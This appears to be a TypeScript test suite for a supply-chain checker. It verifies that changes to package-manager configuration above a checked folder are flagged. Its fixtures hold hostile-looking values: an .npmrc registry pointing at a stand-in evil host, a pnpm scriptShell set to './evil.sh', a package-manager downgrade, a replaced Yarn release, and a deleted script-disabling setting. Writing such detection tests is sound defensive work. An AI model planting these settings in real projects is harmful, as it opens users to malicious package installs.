import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { checkJson, runCli } from '../run-cli.ts';
import { commit, type Files, NPM, PNPM, repository, SHOP, YARN } from './changed-code.ts';

const EVIL = 'https://npm.evil.example.test/';
const RULES = new Set(['install-source-changed', 'install-code-changed', 'protection-weakened']);

const below = (files: Files): Files =>
  Object.fromEntries(Object.entries(files).map(([path, content]) => [`app/${path}`, content]));
const CLASSIC = below({ 'package.json': SHOP, 'yarn.lock': '# yarn lockfile v1\n\n' });
const RELEASE = '.yarn/releases/yarn-4.0.0.cjs';

/** Returns the findings of `check` in the folder, as `path severity`. */
function reported(directory: string): readonly string[] {
  const { findings } = checkJson(join(directory, 'app'), '--base', 'HEAD~1');
  return findings.filter(({ rule }) => RULES.has(rule)).map(({ path, severity }) => `${path} ${severity}`);
}

const diff = (directory: string) => runCli(['diff', join(directory, 'app'), '--base', 'HEAD~1']);

interface Above {
  readonly title: string;
  readonly base: Files;
  readonly change: Files;
  readonly found: readonly string[];
  /** The entries of `diff`. */
  readonly path: string;
}

const READ: readonly Above[] = [
  {
    title: '.npmrc, by Yarn 1',
    base: CLASSIC,
    change: { '.npmrc': `registry=${EVIL}\n` },
    found: ['../.npmrc warning'],
    path: '../.npmrc',
  },
  {
    title: 'a pnpm-workspace.yaml that does not name the folder, by pnpm',
    base: { ...below(PNPM), 'pnpm-workspace.yaml': 'packages: [lib]\n' },
    change: { 'pnpm-workspace.yaml': 'packages: [lib]\nscriptShell: ./evil.sh\n' },
    found: ['../pnpm-workspace.yaml warning'],
    path: '../pnpm-workspace.yaml',
  },
  {
    title: 'an older package manager, by Corepack',
    base: { ...below(NPM), 'package.json': { name: 'top', packageManager: 'npm@11.0.0' } },
    change: { 'package.json': { name: 'top', packageManager: 'npm@6.0.0' } },
    found: ['../package.json warning'],
    path: '../package.json',
  },
  {
    title: 'the release that .yarnrc.yml names there, by Yarn',
    base: { ...below(YARN), '.yarnrc.yml': `yarnPath: ${RELEASE}\n`, [RELEASE]: 'good()\n' },
    change: { [RELEASE]: 'evil()\n' },
    found: ['../.yarnrc.yml warning'],
    path: `../${RELEASE}`,
  },
  {
    title: 'a .yarnrc.yml that is gone, by Yarn',
    base: { ...below(YARN), '.yarnrc.yml': 'enableScripts: false\n' },
    change: { '.yarnrc.yml': null },
    found: ['package.json warning'],
    path: '../.yarnrc.yml',
  },
];

describe('what is read above the checked folder is compared:', () => {
  for (const { title, base, change, found, path } of READ)
    test(title, () => {
      const directory = repository(base);
      commit(directory, change);
      assert.deepEqual(reported(directory), found);
      const listed = diff(directory);
      assert.equal(listed.code, 0, listed.error);
      assert.ok(listed.out.includes(`\n${path}: `), listed.out);
    });
});

describe('silent above the checked folder is', () => {
  const silent: readonly (readonly [title: string, base: Files, change: Files])[] = [
    ['.npmrc, which npm does not read there', below(NPM), { '.npmrc': `registry=${EVIL}\n` }],
    [
      'a manifest, where that of the folder pins the package manager',
      {
        ...below({ ...NPM, 'package.json': { ...SHOP, packageManager: 'npm@11.0.0' } }),
        'package.json': { name: 'top', packageManager: 'npm@11.0.0' },
      },
      { 'package.json': { name: 'top', packageManager: 'npm@6.0.0' } },
    ],
    [
      'what else the manifest there says',
      { ...below(NPM), 'package.json': { name: 'top' } },
      { 'package.json': { name: 'top', scripts: { postinstall: 'x' } } },
    ],
    [
      'a newer package manager',
      { ...below(NPM), 'package.json': { name: 'top', packageManager: 'npm@11.0.0' } },
      { 'package.json': { name: 'top', packageManager: 'npm@11.1.0' } },
    ],
  ];
  for (const [title, base, change] of silent)
    test(title, () => {
      const directory = repository(base);
      commit(directory, change);
      assert.deepEqual(reported(directory), []);
    });

  test('a file that git does not track, as the job wrote it', () => {
    const directory = repository(CLASSIC);
    commit(directory, {});
    writeFileSync(join(directory, '.npmrc'), `registry=${EVIL}\n`);
    assert.deepEqual(reported(directory), []);
    assert.ok(!diff(directory).out.includes('.npmrc'));
  });
});
